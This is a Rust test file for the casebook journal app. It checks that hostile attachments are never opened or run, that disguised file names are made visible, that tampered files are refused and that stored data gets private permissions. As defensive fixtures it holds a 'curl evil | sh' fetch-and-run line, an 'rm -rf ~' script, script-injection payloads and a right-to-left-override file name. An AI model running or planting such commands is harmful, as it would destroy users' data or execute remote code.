//! What an attacker's file can and cannot do once attached, and what other
//! accounts on the machine can read: the system viewer is only given
//! documents, images and text (by content, never by name); names that hide
//! or reorder characters are shown with them visible; altered stored
//! files are refused on every path that serves their bytes; the journal,
//! its key, backups, exports and copies are readable by the user only.

mod common;

use std::fs;
use std::path::Path;

use casebook::Journal;
use casebook::evidence::{AttachTo, viewer_extension, visible_name};
use casebook::export::{ExportFormat, ExportOptions, Lang};
use common::*;

const PASS: &str = "correct horse battery staple";

fn options() -> ExportOptions {
    ExportOptions {
        lang: Lang::En,
        redact: true,
        exported_at: at("2026-11-25T10:00:00+08:00"),
    }
}

fn attach(j: &mut Journal, case: i64, name: &str, bytes: &[u8]) -> i64 {
    j.attach_reader(AttachTo::case(case), name, &mut &bytes[..])
        .unwrap()
        .id
}

#[test]
fn the_viewer_gets_documents_images_and_text_by_content_never_by_name() {
    let mut t = journal();
    let case = new_case(&mut t.journal, "附件");
    let elf = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00";
    let exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00\x40\x00";
    let zip = b"PK\x03\x04\x14\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x05\x00\x00\x00hello";
    let desktop = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n";
    let cases: Vec<(&str, &[u8], Option<&str>)> = vec![
        // Programs and archives are never opened, whatever they are called.
        ("statement.pdf", elf, None),
        ("invoice.exe", exe, None),
        ("refund.jar", zip, None),
        ("photo.png", b"\x00\x01\x02\x03binary\x00", None),
        ("run.sh", b"#!/bin/sh\nrm -rf ~\n", None),
        ("page.html", b"<html><script>alert(1)</script></html>", None),
        // Other text opens as text: a .desktop entry or an SVG becomes .txt
        // and is shown, not run or rendered.
        ("x.desktop", desktop, Some("txt")),
        (
            "a.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            Some("txt"),
        ),
        (
            "bill.csv",
            "日期,金额\n2026-11-01,12.00\n".as_bytes(),
            Some("csv"),
        ),
        (
            "reply.eml",
            b"From: support@example.com\r\nSubject: hi\r\n\r\nbody",
            Some("eml"),
        ),
        // Documents and images keep their own type, whatever the name says.
        ("receipt.exe", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", Some("pdf")),
        ("a.desktop", PNG, Some("png")),
    ];
    for (name, bytes, want) in cases {
        let id = attach(&mut t.journal, case, name, bytes);
        let got = t.journal.attachment_copy_to_open(id);
        match want {
            None => {
                let err = english(&got.expect_err(name));
                assert!(err.contains("does not open it"), "{name}: {err}");
                assert!(
                    t.journal
                        .attachment_save_name(id)
                        .unwrap()
                        .ends_with(".bin"),
                    "{name}"
                );
            }
            Some(ext) => {
                let path = got.unwrap_or_else(|e| panic!("{name}: {e}"));
                assert_eq!(path.extension().unwrap().to_string_lossy(), ext, "{name}");
                assert_eq!(fs::read(&path).unwrap(), bytes, "{name}");
            }
        }
    }
    assert_eq!(viewer_extension(b"MZ\x90\x00", "application/pdf"), None);
    casebook::evidence::remove_open_copies();
}

#[test]
fn names_that_hide_or_reorder_characters_are_shown_with_them_visible() {
    let tricky = "invoice\u{202E}fdp.exe";
    assert_eq!(visible_name(tricky), "invoice⟨U+202E⟩fdp.exe");
    assert_eq!(
        visible_name("a\u{200B}b\u{2066}c\u{FEFF}d\u{0007}e"),
        "a⟨U+200B⟩b⟨U+2066⟩c⟨U+FEFF⟩d⟨U+0007⟩e"
    );
    assert_eq!(visible_name("截图 2026-11-20.png"), "截图 2026-11-20.png");

    let mut t = journal();
    let case = new_case(&mut t.journal, "名字");
    let id = attach(&mut t.journal, case, tricky, b"%PDF-1.7\n");
    let a = t.journal.attachment(id).unwrap();
    assert_eq!(a.name, tricky, "the stored name is kept exactly");
    assert_eq!(a.display_name, "invoice⟨U+202E⟩fdp.exe");
    // The save dialog offers the visible name, with the real type added.
    assert_eq!(
        t.journal.attachment_save_name(id).unwrap(),
        "invoice⟨U+202E⟩fdp.exe.pdf"
    );
    for format in [ExportFormat::Markdown, ExportFormat::Html] {
        let bytes = t.journal.export_case(case, format, options()).unwrap();
        let text = String::from_utf8(bytes).unwrap();
        assert!(!text.contains('\u{202E}'), "{format:?}");
        assert!(text.contains("invoice⟨U+202E⟩fdp.exe"), "{format:?}");
    }
}

#[test]
fn an_altered_stored_file_is_refused_wherever_its_bytes_are_served() {
    let mut t = journal();
    let case = new_case(&mut t.journal, "改动");
    let id = attach(&mut t.journal, case, "bill.csv", b"a,b\n1,2\n");
    let path = t.journal.attachment_file(id).unwrap();
    fs::write(&path, b"a,b\n9,9\n").unwrap();
    let err = english(&t.journal.attachment_bytes(id).unwrap_err());
    assert!(err.contains("altered"), "{err}");
    assert!(t.journal.attachment_copy_to_open(id).is_err());
    let dest = t.dir.path().join("copy.csv");
    assert!(t.journal.save_attachment_copy(id, &dest).is_err());
}

#[cfg(unix)]
fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    fs::metadata(p).unwrap().permissions().mode() & 0o777
}

/// Everything under `dir`: folders 0700, files 0600.
#[cfg(unix)]
fn assert_private_tree(dir: &Path) {
    assert_eq!(mode(dir), 0o700, "{}", dir.display());
    for e in fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            // Folders inside the data folder are behind its 0700.
            continue;
        }
        assert_eq!(mode(&p), 0o600, "{}", p.display());
    }
}

#[cfg(unix)]
#[test]
fn the_journal_key_backups_exports_and_copies_are_the_users_alone() {
    // The tests run with the usual umask (022): without the explicit
    // modes every file here would be 0644 and every folder 0755.
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("data");
    let mut j = Journal::open_dir(&dir).unwrap();
    let case = new_case(&mut j, "权限");
    let id = attach(&mut j, case, "a.png", PNG);
    assert!(dir.join("journal.sqlite3-wal").exists());
    assert_private_tree(&dir);

    let archive = tmp.path().join("backup.tar");
    j.backup(&archive).unwrap();
    assert_eq!(mode(&archive), 0o600, "backup");
    let export = tmp.path().join("summary.md");
    let bytes = j
        .export_case(case, ExportFormat::Markdown, options())
        .unwrap();
    casebook::export::save(&export, &bytes).unwrap();
    assert_eq!(mode(&export), 0o600, "export");
    let copy = tmp.path().join("copy.png");
    j.save_attachment_copy(id, &copy).unwrap();
    assert_eq!(mode(&copy), 0o600, "saved copy");
    drop(j);

    // A journal left readable by an older version is closed up on open.
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();
    fs::set_permissions(
        dir.join("journal.sqlite3"),
        fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    drop(Journal::open_dir(&dir).unwrap());
    assert_private_tree(&dir);

    // Restored and protected journals too.
    let restored = tmp.path().join("restored");
    casebook::backup::restore(&archive, &restored, false, None).unwrap();
    drop(Journal::open_dir(&restored).unwrap());
    assert_private_tree(&restored);
    casebook::protect::protect(&restored, PASS).unwrap();
    assert_private_tree(&restored);
    assert_eq!(mode(&restored.join("journal.key")), 0o600);
}
